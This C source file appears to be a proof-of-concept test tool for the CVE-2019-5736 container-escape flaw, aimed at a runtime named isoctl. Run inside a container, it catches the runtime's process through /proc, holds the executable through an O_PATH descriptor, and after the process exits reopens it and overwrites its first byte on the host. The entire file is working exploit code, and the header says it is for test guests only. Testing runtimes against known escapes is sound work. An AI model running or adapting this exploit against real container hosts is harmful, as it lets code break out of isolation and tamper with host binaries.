// SPDX-License-Identifier: GPL-2.0
/*
 * exegrab SECONDS: what a container does to the runtime that runs its
 * binaries (CVE-2019-5736).  For SECONDS at most, watch the newest pids
 * for a process whose executable is isoctl, and hold that with an O_PATH fd;
 * once the process is gone, open the executable for writing and write
 * over its first byte (so that it is no ELF any more).  Prints "TARGET:
 * wrote", or the step that failed and why, then exits.  Built static,
 * to be copied into a container; run only in the test guests.
 */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static void pause_ms(long ms)
{
	struct timespec ts = { ms / 1000, ms % 1000 * 1000000 };

	nanosleep(&ts, NULL);
}

/*
 * A process of isoctl's among the newest few: its pid, with its
 * executable in @fd and @target.  It lives for a moment only: look where
 * the next pids go (ns_last_pid), not through all of /proc.
 */
static pid_t find(int *fd, char *target, size_t size)
{
	FILE *f = fopen("/proc/sys/kernel/ns_last_pid", "re");
	char path[64];
	int last = 0, p;
	ssize_t n;

	if (f) {
		if (fscanf(f, "%d", &last) != 1)
			last = 0;
		fclose(f);
	}
	for (p = last; p > 1 && p > last - 4; p--) {
		snprintf(path, sizeof(path), "/proc/%d/exe", p);
		n = readlink(path, target, size - 1);
		if (n <= 0)
			continue;
		target[n] = '\0';
		if (!strstr(target, "isoctl"))
			continue;
		*fd = open(path, O_PATH | O_CLOEXEC);
		if (*fd >= 0)
			return p;
	}
	return 0;
}

int main(int argc, char **argv)
{
	time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 10);
	char target[4096], path[64];
	int fd = -1, wfd = -1, tries;
	pid_t pid = 0;

	while (!pid && time(NULL) < end)
		pid = find(&fd, target, sizeof(target));
	if (!pid) {
		printf("no process of isoctl's seen\n");
		return 0;
	}
	/* while it runs, its executable cannot be written (ETXTBSY) */
	while (!kill(pid, 0) && time(NULL) < end)
		pause_ms(10);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	for (tries = 0; tries < 300; tries++) {
		wfd = open(path, O_RDWR | O_CLOEXEC);
		if (wfd >= 0 || errno != ETXTBSY)
			break;
		pause_ms(10);
	}
	if (wfd < 0)
		printf("%s: open: %s\n", target, strerror(errno));
	else if (pwrite(wfd, "#", 1, 0) != 1)
		printf("%s: write: %s\n", target, strerror(errno));
	else
		printf("%s: wrote\n", target);
	return 0;
}
